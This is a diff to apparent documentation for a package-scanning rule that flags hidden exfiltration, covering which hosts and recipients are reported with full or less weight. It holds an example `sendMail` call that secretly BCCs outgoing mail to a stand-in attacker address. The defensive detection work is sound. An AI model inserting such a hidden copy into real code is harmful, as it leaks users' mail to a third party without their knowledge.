@@ -35,9 +35,11 @@ worked.
 
 **Example.** `transport.sendMail({ to, subject, text, bcc: "copies@exfil.invalid" })`
 
-**Reported with less weight.** Requests to a host that the README names, to one that bears the package's
-name and is not told of, or that a setting of the user allows; recipients that are exchanged on trial
-(`dryRun`, `testnet`).
+**Reported with less weight.** Requests to a host that the README names, to one that bears the package's name
+and is not told of, or that a setting of the user allows; to a host of the domain that the package asks for
+other things; where the README tells of telemetry; recipients that are exchanged on trial (`dryRun`,
+`testnet`), or where the caller gave a word, such as a symbol, that stands for them; wrappers in a bundle of
+libraries.
 
 **Left alone.** A fixed sender; a fixed only recipient (a contact form); a default where none was given;
 copies that the caller of the tool asks for; addresses from the configuration; the service that the
